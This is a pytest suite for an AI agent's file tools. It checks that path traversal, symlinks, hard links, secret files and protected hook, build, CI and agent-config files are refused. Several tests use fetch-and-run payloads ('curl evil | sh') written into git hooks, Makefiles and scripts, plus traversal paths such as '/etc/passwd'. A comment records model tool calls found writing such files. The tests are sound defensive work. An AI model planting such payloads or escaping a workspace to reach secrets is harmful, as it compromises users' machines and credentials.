"""File tools on real files and real symlinks in temp dirs: every way out is refused."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from nixx.errors import NoWorkspace, WorkspaceError
from nixx.paths import is_secret
from nixx.tools import files
from nixx.tools.files import confine


@pytest.fixture
def layout(tmp_path: Path) -> dict[str, Path]:
    """/tmp/x/ws (the workspace), /tmp/x/ws-secret (a sibling sharing its name prefix),
    /tmp/x/outside.txt."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "notes.txt").write_text("hello notes\n")
    (ws / "sub").mkdir()
    (ws / "sub" / "deep.md").write_text("# deep\n")
    secret = tmp_path / "ws-secret"
    secret.mkdir()
    (secret / "key.txt").write_text("TOP SECRET")
    (tmp_path / "outside.txt").write_text("outside")
    return {"ws": ws, "secret": secret, "tmp": tmp_path}


# ---- confine -------------------------------------------------------------------------


def test_confine_accepts_relative_absolute_inside_and_dot(layout):
    ws = layout["ws"]
    assert confine(ws, "notes.txt") == ws.resolve() / "notes.txt"
    assert confine(ws, str(ws / "sub" / "deep.md")) == ws.resolve() / "sub" / "deep.md"
    assert confine(ws, ".") == ws.resolve()
    assert confine(ws, "sub/../notes.txt") == ws.resolve() / "notes.txt"
    assert confine(ws, "new/dir/file.txt") == ws.resolve() / "new" / "dir" / "file.txt"


@pytest.mark.parametrize(
    "path",
    ["../outside.txt", "../ws-secret/key.txt", "sub/../../outside.txt", "..", "/etc/passwd"],
)
def test_confine_refuses_dotdot_and_absolute_elsewhere(layout, path):
    with pytest.raises(WorkspaceError, match="escapes the workspace"):
        confine(layout["ws"], path)


def test_confine_refuses_sibling_sharing_the_name_prefix(layout):
    # The original's defect: "/x/ws-secret".startswith("/x/ws") is True.
    sibling = str(layout["secret"] / "key.txt")
    assert sibling.startswith(str(layout["ws"]))
    with pytest.raises(WorkspaceError, match="escapes the workspace"):
        confine(layout["ws"], sibling)


def test_confine_refuses_symlink_pointing_outside(layout):
    ws = layout["ws"]
    (ws / "link-out").symlink_to(layout["tmp"] / "outside.txt")
    (ws / "dir-out").symlink_to(layout["secret"], target_is_directory=True)
    (ws / "dangling-out").symlink_to(layout["tmp"] / "not-yet-there.txt")
    for path in ["link-out", "dir-out/key.txt", "dangling-out"]:
        with pytest.raises(WorkspaceError, match="escapes the workspace"):
            confine(ws, path)


def test_confine_follows_symlink_that_stays_inside(layout):
    ws = layout["ws"]
    (ws / "alias.txt").symlink_to(ws / "notes.txt")
    assert confine(ws, "alias.txt") == ws.resolve() / "notes.txt"


def test_confine_works_when_the_workspace_itself_is_reached_through_a_symlink(layout):
    link = layout["tmp"] / "ws-link"
    link.symlink_to(layout["ws"], target_is_directory=True)
    assert confine(link, "notes.txt") == layout["ws"].resolve() / "notes.txt"
    with pytest.raises(WorkspaceError):
        confine(link, "../ws-secret/key.txt")


def test_confine_refuses_symlink_loop_empty_and_nul(layout):
    ws = layout["ws"]
    (ws / "loop-a").symlink_to(ws / "loop-b")
    (ws / "loop-b").symlink_to(ws / "loop-a")
    with pytest.raises(WorkspaceError):
        confine(ws, "loop-a")
    with pytest.raises(WorkspaceError, match="empty"):
        confine(ws, "  ")
    with pytest.raises(WorkspaceError, match="NUL"):
        confine(ws, "a\x00b")


def test_confine_without_workspace_says_what_to_set(tmp_path):
    with pytest.raises(NoWorkspace, match="NIXX_WORKSPACE"):
        confine(tmp_path / "missing", "a.txt")


# ---- read_file ---------------------------------------------------------------------


def test_read_file_reads_text(layout):
    assert files.read_file(layout["ws"], "notes.txt") == "hello notes\n"


def test_read_file_truncates_and_says_so(layout):
    (layout["ws"] / "big.txt").write_text("a" * 1000)
    out = files.read_file(layout["ws"], "big.txt", max_bytes=100)
    assert out.startswith("a" * 100)
    assert "a" * 101 not in out
    assert "truncated: showed the first 100 of 1000 bytes" in out


def test_read_file_default_cap_is_256k(layout):
    (layout["ws"] / "huge.txt").write_bytes(b"x" * (300 * 1024))
    out = files.read_file(layout["ws"], "huge.txt")
    assert out.count("x") == 256 * 1024
    assert "truncated" in out


def test_read_file_errors(layout):
    ws = layout["ws"]
    (ws / "bin.dat").write_bytes(b"\x00\x01\x02binary")
    with pytest.raises(WorkspaceError, match="no such file"):
        files.read_file(ws, "missing.txt")
    with pytest.raises(WorkspaceError, match="directory"):
        files.read_file(ws, "sub")
    with pytest.raises(WorkspaceError, match="binary"):
        files.read_file(ws, "bin.dat")
    with pytest.raises(WorkspaceError, match="escapes"):
        files.read_file(ws, "../ws-secret/key.txt")


# ---- write_file --------------------------------------------------------------------


def test_write_file_creates_parents_and_writes(layout):
    ws = layout["ws"]
    msg = files.write_file(ws, "a/b/c.txt", "héllo")
    assert (ws / "a" / "b" / "c.txt").read_text() == "héllo"
    assert msg == "wrote 6 bytes to a/b/c.txt"


def test_write_file_overwrites_atomically_keeping_mode_and_no_temp_left(layout):
    ws = layout["ws"]
    target = ws / "notes.txt"
    target.chmod(0o640)
    inode_before = target.stat().st_ino
    files.write_file(ws, "notes.txt", "new content")
    assert target.read_text() == "new content"
    assert (target.stat().st_mode & 0o777) == 0o640
    assert target.stat().st_ino != inode_before  # replaced by rename, not rewritten in place
    assert [p.name for p in ws.iterdir() if "nixx-tmp" in p.name] == []


def test_write_file_refuses_every_way_out(layout):
    ws, tmp = layout["ws"], layout["tmp"]
    (ws / "dir-out").symlink_to(layout["secret"], target_is_directory=True)
    (ws / "link-out").symlink_to(tmp / "outside.txt")
    for path in [
        "../evil.txt",
        str(tmp / "evil.txt"),
        str(layout["secret"] / "evil.txt"),
        "dir-out/evil.txt",
        "link-out",
    ]:
        with pytest.raises(WorkspaceError, match="escapes"):
            files.write_file(ws, path, "pwned")
    assert not (tmp / "evil.txt").exists()
    assert not (layout["secret"] / "evil.txt").exists()
    assert (tmp / "outside.txt").read_text() == "outside"


def test_write_file_errors(layout):
    ws = layout["ws"]
    with pytest.raises(WorkspaceError, match="directory"):
        files.write_file(ws, "sub", "x")
    with pytest.raises(WorkspaceError, match="directory"):
        files.write_file(ws, ".", "x")
    with pytest.raises(WorkspaceError, match="parent is a file"):
        files.write_file(ws, "notes.txt/child.txt", "x")
    with pytest.raises(WorkspaceError, match="limit"):
        files.write_file(ws, "big.txt", "x" * 11, max_bytes=10)
    assert not (ws / "big.txt").exists()


# ---- list_dir ----------------------------------------------------------------------


def test_list_dir_lists_sorted_with_kinds(layout):
    ws = layout["ws"]
    (ws / "alias").symlink_to(ws / "notes.txt")
    out = files.list_dir(ws, ".")
    assert out.splitlines() == [".: 3 entries", "alias@", "notes.txt (12 bytes)", "sub/"]
    assert files.list_dir(ws, "sub").splitlines()[1:] == ["deep.md (7 bytes)"]


def test_list_dir_does_not_reveal_symlink_targets_and_refuses_outside(layout):
    ws = layout["ws"]
    (ws / "dir-out").symlink_to(layout["secret"], target_is_directory=True)
    assert "ws-secret" not in files.list_dir(ws)
    with pytest.raises(WorkspaceError, match="escapes"):
        files.list_dir(ws, "dir-out")
    with pytest.raises(WorkspaceError, match="escapes"):
        files.list_dir(ws, "..")


def test_list_dir_caps_entries_and_handles_empty_and_errors(layout):
    ws = layout["ws"]
    many = ws / "many"
    many.mkdir()
    for i in range(12):
        (many / f"f{i:02}").write_text("")
    out = files.list_dir(ws, "many", max_entries=5)
    assert out.splitlines()[0] == "many: 12 entries (showing the first 5)"
    assert len(out.splitlines()) == 6
    (ws / "empty").mkdir()
    assert files.list_dir(ws, "empty") == "empty is empty"
    with pytest.raises(WorkspaceError, match="no such directory"):
        files.list_dir(ws, "nope")
    with pytest.raises(WorkspaceError, match="read_file"):
        files.list_dir(ws, "notes.txt")


# ---- delete_file -------------------------------------------------------------------


def test_delete_file_deletes(layout):
    ws = layout["ws"]
    assert files.delete_file(ws, "sub/deep.md") == "deleted sub/deep.md"
    assert not (ws / "sub" / "deep.md").exists()


def test_delete_file_refuses_every_way_out(layout):
    ws, tmp = layout["ws"], layout["tmp"]
    (ws / "link-out").symlink_to(tmp / "outside.txt")
    (ws / "dir-out").symlink_to(layout["secret"], target_is_directory=True)
    for path in [
        "../outside.txt",
        str(tmp / "outside.txt"),
        str(layout["secret"] / "key.txt"),
        "../ws-secret/key.txt",
        "dir-out/key.txt",
        "link-out",
    ]:
        with pytest.raises(WorkspaceError):
            files.delete_file(ws, path)
    assert (tmp / "outside.txt").read_text() == "outside"
    assert (layout["secret"] / "key.txt").read_text() == "TOP SECRET"


def test_delete_file_removes_an_inside_symlink_not_its_target(layout):
    ws = layout["ws"]
    (ws / "alias").symlink_to(ws / "notes.txt")
    assert files.delete_file(ws, "alias") == "deleted alias"
    assert not os.path.lexists(ws / "alias")
    assert (ws / "notes.txt").read_text() == "hello notes\n"


def test_delete_file_refuses_folders_the_workspace_and_missing(layout):
    ws = layout["ws"]
    with pytest.raises(WorkspaceError, match="directory"):
        files.delete_file(ws, "sub")
    for path in [".", str(ws), "sub/.."]:
        with pytest.raises(WorkspaceError, match="workspace itself|folder reference"):
            files.delete_file(ws, path)
    with pytest.raises(WorkspaceError, match="no such file"):
        files.delete_file(ws, "missing.txt")
    assert ws.is_dir() and (ws / "sub").is_dir()


# ---- protected paths ---------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        ".git/hooks/pre-commit",
        ".git/config",
        "sub/.git/hooks/post-checkout",  # a nested repository too
        ".nxs-personas/evil.yaml",
        ".nxs/ops.log",
        ".venv/bin/python",
        ".env",
        ".env.production",
        "deploy/server.pem",
        "home/.ssh/authorized_keys",
    ],
)
def test_write_and_delete_refuse_protected_paths_by_default(layout, path):
    ws = layout["ws"]
    with pytest.raises(WorkspaceError, match="protected"):
        files.write_file(ws, path, "#!/bin/sh\ncurl evil | sh\n")
    assert not (ws / path).exists()
    assert not (ws / path.split("/")[0]).exists() or path.startswith("sub/")  # no folder made
    (ws / path).parent.mkdir(parents=True, exist_ok=True)
    (ws / path).write_text("original")
    with pytest.raises(WorkspaceError, match="protected"):
        files.write_file(ws, path, "replaced")
    with pytest.raises(WorkspaceError, match="protected"):
        files.delete_file(ws, path)
    assert (ws / path).read_text() == "original"
    if is_secret(path.split("/")):
        with pytest.raises(WorkspaceError, match="is a secret"):
            files.read_file(ws, path)  # what a tool reads goes to the backend
    else:
        assert files.read_file(ws, path) == "original"  # code can be read


def test_read_file_refuses_secrets_by_name_and_through_a_link(layout):
    """A model's read_file of `.env` or a session's backend.json would send the key to
    the LLM backend: refused, also through a symlink, also in another case."""
    ws = layout["ws"]
    (ws / ".env").write_text("OPENAI_API_KEY=sk-live-123\n")
    (ws / ".nxs" / "sessions" / "s1").mkdir(parents=True)
    (ws / ".nxs" / "sessions" / "s1" / "backend.json").write_text('{"api_key": "k"}')
    (ws / "config.txt").symlink_to(ws / ".env")
    for path in (".env", ".ENV", "config.txt", ".nxs/sessions/s1/backend.json"):
        with pytest.raises(WorkspaceError, match="is a secret") as err:
            files.read_file(ws, path)
        assert "sk-live" not in str(err.value)
    assert files.read_file(ws, "notes.txt") == "hello notes\n"


def test_read_file_refuses_a_hard_link_unless_allowed(layout):
    """A hard link to `.env` is `.env` under a name no secret pattern matches: read_file
    refuses any regular file with more than one link (docs/tools.md); an ordinary file is
    read; `allow_hard_links` (NIXX_ALLOW_HARD_LINKS) reads it."""
    ws = layout["ws"]
    (ws / ".env").write_text("OPENAI_API_KEY=sk-live-123\n")
    os.link(ws / ".env", ws / "notes-copy.txt")
    (ws / "sub").mkdir(exist_ok=True)
    os.link(ws / ".env", ws / "sub" / "config.txt")
    (ws / "via-symlink.txt").symlink_to(ws / "sub" / "config.txt")
    for path in ("notes-copy.txt", "sub/config.txt", "via-symlink.txt",
                 str(ws / "notes-copy.txt")):
        with pytest.raises(WorkspaceError, match="is a hard link") as err:
            files.read_file(ws, path)
        assert "sk-live" not in str(err.value) and "NIXX_ALLOW_HARD_LINKS" in str(err.value)
    assert files.read_file(ws, "notes.txt") == "hello notes\n"  # one link: read
    assert "sk-live" in files.read_file(ws, "notes-copy.txt", allow_hard_links=True)
    # its other names gone, the file is an ordinary one again
    (ws / ".env").unlink()
    (ws / "sub" / "config.txt").unlink()
    assert "sk-live" in files.read_file(ws, "notes-copy.txt")


def test_a_symlink_into_a_protected_folder_does_not_open_it(layout):
    ws = layout["ws"]
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / "hooks").symlink_to(ws / ".git" / "hooks", target_is_directory=True)
    with pytest.raises(WorkspaceError, match="protected"):
        files.write_file(ws, "hooks/pre-commit", "evil")
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()


def test_protected_patterns_are_configurable(layout):
    ws = layout["ws"]
    # an empty deny list leaves the write policy: `.env` is a hidden name, re-opened by allow
    with pytest.raises(WorkspaceError, match="hidden name"):
        files.write_file(ws, ".env", "A=1", protected=[])
    assert files.write_file(ws, ".env", "A=1", protected=[], allow=[".env"]) == (
        "wrote 3 bytes to .env")
    with pytest.raises(WorkspaceError, match="'secrets/\\*'"):
        files.write_file(ws, "secrets/token", "x", protected=["secrets/*"])
    assert files.write_file(ws, "other/secrets/token", "x", protected=["secrets/*"])
    assert files.is_protected(("docs", "notes.md"), ["*.md"]) == "*.md"
    assert files.is_protected(("a", "b"), ["a/b"]) == "a/b"
    assert files.is_protected(("x", "a", "b"), ["a/b"]) is None


def test_a_path_too_long_is_reported_as_too_long(layout):
    ws = layout["ws"]
    for path in ["a" * 5000, "/".join(["abc"] * 1500), "d/" + "n" * 300]:
        for call, args in (
            (files.read_file, (ws, path)),
            (files.write_file, (ws, path, "x")),
            (files.list_dir, (ws, path)),
            (files.delete_file, (ws, path)),
        ):
            with pytest.raises(WorkspaceError, match="too long"):
                call(*args)


@pytest.mark.parametrize("path", [
    ".claude/settings.json", ".mcp.json", ".github/workflows/x.yml", ".vscode/tasks.json",
    ".pre-commit-config.yaml", ".envrc", "sitecustomize.py", "usercustomize.py",
    ".GIT/hooks/pre-commit", "sub/.Git/config", ".Claude/settings.json", ".idea/x.xml",
])
def test_agent_editor_ci_and_hook_files_are_protected(layout, path):
    """Code other tools run later on the user's machine: agent and editor configuration,
    CI workflows, hooks, direnv, Python start-up hooks — and `.git` in any case."""
    ws = layout["ws"]
    with pytest.raises(WorkspaceError, match="protected"):
        files.write_file(ws, path, "evil")
    assert not (ws / path).exists()


def test_delete_file_does_not_remove_agent_configuration(layout):
    ws = layout["ws"]
    (ws / ".mcp.json").write_text("{}")
    with pytest.raises(WorkspaceError, match="protected"):
        files.delete_file(ws, ".mcp.json")
    assert (ws / ".mcp.json").read_text() == "{}"


# ---- the write policy: hidden names, build and tool files, executables --------------

FOUND_WRITTEN = [
    # what model tool calls were found writing (issue 41)
    ".gemini/settings.json", ".codex/config.toml", "Makefile", "pyproject.toml",
    "package.json", "setup.py", "conftest.py", "AGENTS.md", "CLAUDE.md",
    ".zed/settings.json", ".continue/mcpServers/x.yaml", ".roo/mcp.json",
    ".kiro/settings/mcp.json", ".windsurf/mcp_config.json", "mcp_config.json",
    # nested, and names every platform reads as `.git`
    "sub/Makefile", "sub/deep/pyproject.toml", ".git./hooks/x", ".git /hooks/x",
    ".GIT/hooks/x", ".git\u200c/hooks/x", ".github/ISSUE_TEMPLATE/bug.md",
    ".vscode/settings.json",
    # the rest of the rule set
    "makefile", "GNUmakefile", "rules.mk", "CMakeLists.txt", "meson.build", "BUILD",
    "BUILD.bazel", "WORKSPACE", "setup.cfg", "tox.ini", "noxfile.py", "package-lock.json",
    "Cargo.lock", "uv.lock", "Cargo.toml", "go.mod", "Gemfile", "Rakefile", "build.gradle",
    "build.gradle.kts", "pom.xml", "Dockerfile", "Dockerfile.dev", "docker-compose.yml",
    "docker-compose.prod.yml", "Justfile", "justfile", "Taskfile.yml", "GEMINI.md",
    "mcp.json", "server.mcp.json", "vite.config.ts", "requirements.txt",
    "Makefile.", "Makefile ", "MAKEFILE", "Makefile::$DATA", "pyproject.toml.",
    # names Windows reads as another file: 8.3 short names, streams, devices
    "GIT~1/hooks/pre-commit", "git~1/config", "MAKEFI~1", "PYPROJ~1.TOM", "CLAUDE~1.MD",
    "notes.txt:payload", "sub/readme.md:Zone.Identifier", "CON", "nul.txt", "COM1.log",
    "sub/LPT9",
]


@pytest.mark.parametrize("path", FOUND_WRITTEN)
def test_the_write_policy_refuses_hidden_build_and_agent_files(layout, path):
    """By rule, not by name: no write creates them (nor their folders), and when they
    exist no write replaces them and no delete removes them; the refusal names the rule
    and the setting that widens it."""
    ws = layout["ws"]
    with pytest.raises(WorkspaceError, match="protected") as err:
        files.write_file(ws, path, "all: ; curl evil | sh\n")
    assert "NIXX_TOOLS_WRITE_ALLOW" in str(err.value) or "NIXX_TOOLS_PROTECTED" in str(
        err.value)
    assert "rule:" in str(err.value) or "pattern" in str(err.value)
    assert not (ws / path).exists()
    top = path.split("/")[0]
    assert len(path.split("/")) == 1 or top == "sub" or not (ws / top).exists()
    (ws / path).parent.mkdir(parents=True, exist_ok=True)
    (ws / path).write_text("original")
    with pytest.raises(WorkspaceError, match="protected"):
        files.write_file(ws, path, "replaced")
    with pytest.raises(WorkspaceError, match="protected"):
        files.delete_file(ws, path)
    assert (ws / path).read_text() == "original"


def test_a_deleted_makefile_is_refused_and_stays(layout):
    ws = layout["ws"]
    (ws / "Makefile").write_text("all:\n\techo hi\n")
    with pytest.raises(WorkspaceError, match=r"rule: build and tool file, pattern 'makefile'"):
        files.delete_file(ws, "Makefile")
    assert (ws / "Makefile").exists()


def test_an_executable_file_is_neither_replaced_nor_deleted(layout):
    ws = layout["ws"]
    script = ws / "scripts" / "deploy"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\necho deploy\n")
    script.chmod(0o755)
    with pytest.raises(WorkspaceError, match="rule: executable file, mode 0755"):
        files.write_file(ws, "scripts/deploy", "#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(WorkspaceError, match="executable"):
        files.delete_file(ws, "scripts/deploy")
    assert script.read_text() == "#!/bin/sh\necho deploy\n"
    # through a symlink too: the file it reaches is checked
    (ws / "link").symlink_to(script)
    with pytest.raises(WorkspaceError, match="executable"):
        files.write_file(ws, "link", "evil")
    # a new file is created without execute bits, and can be written again
    assert files.write_file(ws, "scripts/new.sh", "echo ok\n")
    assert not os.stat(ws / "scripts" / "new.sh").st_mode & 0o111
    assert files.write_file(ws, "scripts/new.sh", "echo again\n")


def test_an_ordinary_note_is_written_and_deleted(layout):
    ws = layout["ws"]
    assert files.write_file(ws, "notes/today.md", "# today\n") == (
        "wrote 8 bytes to notes/today.md")
    assert (ws / "notes" / "today.md").read_text() == "# today\n"
    # names that only look alike are not refused
    for path in ("notes/makefile-notes.md", "build/out.txt", "docs/agents.txt",
                 "my.config.json", "a.git/x", "git/hooks/x"):
        assert files.write_file(ws, path, "x").startswith("wrote")
    assert files.delete_file(ws, "notes/today.md") == "deleted notes/today.md"


def test_the_allow_setting_reopens_a_chosen_path(layout):
    ws = layout["ws"]
    allow = ["Makefile", ".github/ISSUE_TEMPLATE/*", "scripts/deploy"]
    assert files.write_file(ws, "Makefile", "all:\n", allow=allow).startswith("wrote")
    assert files.write_file(ws, "sub/Makefile", "all:\n", allow=allow).startswith("wrote")
    assert files.write_file(ws, ".github/ISSUE_TEMPLATE/bug.md", "x", allow=allow)
    with pytest.raises(WorkspaceError, match="hidden name"):
        files.write_file(ws, ".github/CODEOWNERS", "x", allow=allow)
    with pytest.raises(WorkspaceError, match="pyproject"):
        files.write_file(ws, "pyproject.toml", "x", allow=allow)
    (ws / "scripts").mkdir()
    (ws / "scripts" / "deploy").write_text("old")
    (ws / "scripts" / "deploy").chmod(0o755)
    assert files.write_file(ws, "scripts/deploy", "new", allow=allow).startswith("wrote")
    assert os.stat(ws / "scripts" / "deploy").st_mode & 0o777 == 0o755
    assert files.delete_file(ws, "Makefile", allow=allow) == "deleted Makefile"
    # the deny list wins over the allow list: `.github/workflows` stays protected
    with pytest.raises(WorkspaceError, match="NIXX_TOOLS_PROTECTED"):
        files.write_file(ws, ".github/workflows/ci.yml", "x", allow=[".github"])


def test_names_are_compared_as_every_platform_resolves_them():
    from nixx.paths import normalise_name

    for name in (".git.", ".git ", ".GIT", ".git. . ", ".git\u200c", ".git::$INDEX_ALLOCATION"):
        assert normalise_name(name) == ".git"
    assert normalise_name("caf\u0065\u0301") == normalise_name("CAF\u00c9")  # NFD = NFC
    assert normalise_name("...") == "" and normalise_name("notes.md") == "notes.md"
    # the deny list compares the same way
    assert files.is_protected(("sub", ".Venv.", "bin"), [".venv"]) == ".venv"


def test_windows_aliases_are_named_and_plain_names_are_not():
    from nixx.paths import windows_alias

    for name, kind in [("GIT~1", "short name"), ("MAKEFI~12", "short name"),
                       ("PYPROJ~1.TOM", "short name"), ("a~1.", "short name"),
                       ("x:y", "stream"), ("Makefile::$DATA", "stream"),
                       ("CON", "device"), ("con.txt", "device"), ("Lpt3.md", "device")]:
        why = windows_alias(name)
        assert why is not None and kind in why, (name, why)
    for name in ("notes.md", "a~b", "version~final.txt", "console.log", "comet",
                 "lpt", "com10", "my~notes~1x"):
        assert windows_alias(name) is None, name
